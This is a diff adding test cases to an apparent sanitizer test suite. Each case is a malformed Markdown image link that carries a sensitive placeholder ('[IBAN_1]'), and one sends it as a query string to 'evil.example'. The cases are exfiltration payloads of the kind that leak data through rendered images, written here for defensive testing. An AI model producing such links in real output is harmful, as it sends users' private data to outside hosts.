@@ -35,6 +35,8 @@ describe("When a URL begins behind a sign, then no value behind a blank follows 
     `![x](${URL}"a) [IBAN_1]" b)`,
     `![x](${URL} "a) [IBAN_1]" b)`,
     `![x](/local?q= [IBAN_1])`,
+    `![x](${URL}\`) [IBAN_1] \`)`,
+    `![x](${URL}[a) [IBAN_1]](b))`,
     `![x] (${URL} [IBAN_1])`,
     `![x]\n(${URL} [IBAN_1])`,
     "![x] (/&Tab;/evil.example/?q=[IBAN_1])",
